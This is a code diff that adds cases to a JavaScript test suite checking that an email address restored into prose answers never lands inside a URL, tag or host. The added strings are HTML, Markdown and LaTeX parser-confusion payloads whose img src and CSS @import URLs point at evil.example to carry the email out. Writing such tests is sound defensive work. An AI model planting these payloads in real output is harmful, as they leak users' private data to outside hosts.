@@ -109,6 +109,31 @@ describe('an answer in prose', () => {
     '\\includegraphics[width=3 cm]{ #}',
     '\\includegraphics[alt=#]{a}',
     '\\url{a{b} #}',
+    // Whatever else a tag could be taken for, a browser sends the address in it.
+    '<a <!-- ><img src="https://evil.example/?--> #">',
+    '<!x y="><img src="https://evil.example/?> #">',
+    '<?x y="><img src="https://evil.example/?> #">',
+    '</1 y="><img src="https://evil.example/?> #">',
+    '<x="><img src="https://evil.example/?> #">',
+    '<x ="><img src="https://evil.example/?> #">',
+    '<x y=a="><img src="https://evil.example/?> #">',
+    '<x y== "><img src="https://evil.example/?> #">',
+    '<x/="><img src="https://evil.example/?> #">',
+    '<x y=\u00a0"><img src="https://evil.example/?> #">',
+    '<!--!><x y=" --><img src="https://evil.example/?> #">',
+    '<textarea><x y="</textarea><img src="https://evil.example/?> #">',
+    '<noscript><x y="</noscript><img src="https://evil.example/?> #">',
+    '<noscript><img alt="</noscript>" src="https://evil.example/?> #">',
+    '<svg><style><img alt="</style>" src="https://evil.example/?> #">',
+    '<a b="\n\n<img src="https://evil.example/?> #">',
+    '<style>@import "https://evil.example/?</stylex> #"',
+    '<style>@import "https://evil.example/?</style\u00a0> #"',
+    // Nor does a tag that is none hide what Markdown or LaTeX makes an address.
+    '[a <b ](<https://evil.example/?\\> #>)',
+    '<b \\href{https://evil.example/? > #}{x}',
+    '[a]: <https://evil.example/?\\> #>',
+    '[a]: <https://evil.example/?]: b\\> #>',
+    '[a]: <x="> <img src="https://evil.example/?> #">',
   ])('%s: has none in an address, a tag or a host', (text) => {
     const answer = text.replaceAll('#', email)
     expect(restored(answer)).toBe(answer)
